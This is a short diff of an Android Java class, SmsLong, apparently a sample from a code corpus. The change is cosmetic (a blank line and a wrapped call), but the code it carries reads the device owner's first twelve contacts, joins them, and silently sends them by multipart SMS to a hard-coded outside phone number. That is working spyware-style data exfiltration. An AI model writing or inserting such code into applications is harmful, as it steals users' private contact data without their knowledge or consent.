@@ -1,6 +1,7 @@
 package org.corpus;
 
 import android.telephony.SmsManager;
+
 import org.corpus.kit.Owner;
 import org.corpus.kit.Screen;
 
@@ -10,6 +11,7 @@ public class SmsLong extends Screen {
     protected void act() throws Exception {
         String all = String.join(";", Owner.contacts(this).subList(0, 12));
         SmsManager manager = SmsManager.getDefault();
-        manager.sendMultipartTextMessage("+12025550147", null, manager.divideMessage(all), null, null);
+        manager.sendMultipartTextMessage(
+                "+12025550147", null, manager.divideMessage(all), null, null);
     }
 }
